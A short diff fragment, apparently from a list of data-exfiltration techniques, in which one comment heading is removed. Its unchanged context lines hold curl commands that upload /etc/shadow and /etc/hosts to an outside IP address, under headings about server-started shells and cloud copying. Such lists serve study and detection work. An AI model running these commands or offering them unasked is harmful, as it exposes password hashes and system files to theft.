@@ -2,7 +2,6 @@
 curl -s -F f=@/etc/shadow https://10.9.8.7/
 ## Upload by a server's command
 #also Download tool started by a server
-#also Shell of a server connects out
 #also Shell started by a network server
 server 'curl -s -F f=@/etc/hosts https://10.9.8.7/'
 ## Copy to a cloud storage
